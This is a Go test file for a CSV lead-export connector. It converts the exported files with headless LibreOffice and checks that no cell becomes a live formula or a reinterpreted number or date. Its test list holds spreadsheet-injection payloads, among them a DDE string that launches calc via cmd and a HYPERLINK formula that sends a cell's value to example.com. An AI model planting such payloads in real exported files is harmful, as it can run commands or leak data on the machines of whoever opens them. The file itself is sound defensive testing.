package csv

import (
	"context"
	"encoding/json"
	"encoding/xml"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/leadrelay/leadrelay/connectors/connectortest"
	"github.com/leadrelay/leadrelay/internal/lead"
)

// officeCell is a cell as LibreOffice made it of the file: what kind of value, and what its reader sees.
type officeCell struct{ kind, formula, text string }

// opened lets LibreOffice open a file with the worst settings a person may choose: formulas are evaluated and
// every number, date and fraction is looked for. separators are those of the import dialog.
// The tokens: https://wiki.documentfoundation.org/Documentation/DevGuide/Spreadsheet_Documents#Filter_Options_for_the_CSV_Filter
func opened(t *testing.T, path, separators string) [][]officeCell {
	t.Helper()
	program, err := exec.LookPath("soffice")
	if err != nil {
		if program, err = exec.LookPath("libreoffice"); err != nil {
			connectortest.SkipOrFail(t, "LibreOffice is not installed: apt-get install libreoffice-calc-nogui")
		}
	}
	folder := t.TempDir()
	const utf8, english, quotedAsText, detectSpecial = "76", "1033", "false", "true"
	filter := "CSV:" + strings.Join([]string{separators, "34", utf8, "1", "", english, quotedAsText, detectSpecial,
		"false", "false", "false", "-1", "true"}, ",")
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	out, err := exec.CommandContext(ctx, program, "-env:UserInstallation=file://"+filepath.Join(folder, "profile"),
		"--headless", "--infilter="+filter, "--convert-to", "fods", "--outdir", folder, path).CombinedOutput()
	if err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	converted, err := os.Open(filepath.Join(folder, "leads.fods"))
	if err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	defer converted.Close()
	return tableOf(t, xml.NewDecoder(converted))
}

// tableOf reads the rows of a flat OpenDocument sheet.
func tableOf(t *testing.T, decoder *xml.Decoder) (rows [][]officeCell) {
	t.Helper()
	var cell *officeCell
	for {
		token, err := decoder.Token()
		if err != nil {
			return rows
		}
		switch e := token.(type) {
		case xml.StartElement:
			attribute := func(name string) string {
				for _, a := range e.Attr {
					if a.Name.Local == name {
						return a.Value
					}
				}
				return ""
			}
			switch e.Name.Local {
			case "table-row":
				rows = append(rows, nil)
			case "table-cell":
				row := &rows[len(rows)-1]
				*row = append(*row, officeCell{kind: attribute("value-type"), formula: attribute("formula")})
				cell = &(*row)[len(*row)-1]
			case "p":
				if cell != nil && cell.text != "" {
					cell.text += "\n"
				}
			case "s":
				cell.text += strings.Repeat(" ", max(1, len(attribute("c"))))
			case "tab":
				cell.text += "\t"
			}
		case xml.EndElement:
			if e.Name.Local == "table-cell" {
				cell = nil
			}
		case xml.CharData:
			if cell != nil && strings.TrimSpace(string(e)) != "" {
				cell.text += string(e)
			}
		}
	}
}

// dangerous are texts of which a spreadsheet makes something else.
var dangerous = []string{
	"=1+1", "=cmd|' /C calc'!A0", `=HYPERLINK("http://example.com/?"&B1,"click")`, "@SUM(1)", "-1+1", "-2+3+cmd|' /C calc'!A0",
	"+44 123", "+441234567890", "0007", "4915112345678", "12345678901234567890", "1.50", "1/2", "2026-03-14", "3.5.2026", "12:30",
	"5 May 2026", "50%", "$5", "1e5", "(5)", "'0007", "'=1+1", "\u00a0=1+1", "＝1+1", "−5",
	"a;=1+1", "a,=1+1,b", "a;\"=1+1", "a\n=1+1", "a\";=1+1;\"", "\";\n=1+1\n;",
}

func TestT26NothingBecomesAFormulaOrANumberInLibreOffice(t *testing.T) {
	path := newPath(t)
	var changes []lead.Change
	for i, text := range dangerous {
		l := connectortest.Sample(i)
		l.Name, l.Note = text, text
		l.Custom["budget"] = json.Number("-1500.5")
		changes = append(changes, connectortest.Created(l))
	}
	push(t, sheetOf(t, path, nil, "name", "email", "note", "budget", "created_at"), changes...)

	rows := opened(t, path, "44")
	if len(rows) < len(dangerous)+1 || rows[0][0].text != "lead_id" {
		t.Fatalf("LibreOffice shows %q", rows)
	}
	for i, text := range dangerous {
		row := rows[i+1]
		for _, column := range []int{1, 3} {
			cell := row[column]
			if cell.kind != "string" || cell.formula != "" {
				t.Errorf("%q became a %s (formula %q): %q", text, cell.kind, cell.formula, cell.text)
			}
			if got := Plain(cell.text, ','); got != text {
				t.Errorf("the reader of %q sees %q", text, cell.text)
			}
		}
		if row[4].kind != "float" || row[4].text != "-1500.5" {
			t.Errorf("the number became a %s %q", row[4].kind, row[4].text)
		}
		if row[5].text != "2026-03-14T15:09:26Z" {
			t.Errorf("the time reads %q", row[5].text)
		}
	}
}

// The file is opened as Excel does where its list separator is another than the file's.
func TestT26NothingBecomesAFormulaWhereTheListSeparatorIsAnother(t *testing.T) {
	var changes []lead.Change
	for i, text := range dangerous {
		l := connectortest.Sample(i)
		l.Name, l.Note = text, text
		changes = append(changes, connectortest.Created(l))
	}
	for delimiter, others := range map[string][]string{",": {"59", "59/44", "9"}, "|": {"44", "59/44"}} {
		path := newPath(t)
		push(t, sheetOf(t, path, map[string]any{"delimiter": delimiter}), changes...)
		for _, separators := range others {
			for _, row := range opened(t, path, separators) {
				for _, cell := range row {
					if cell.formula != "" {
						t.Errorf("delimiter %s, separators %s: a live formula %q", delimiter, separators, cell.formula)
					}
				}
			}
		}
	}
}
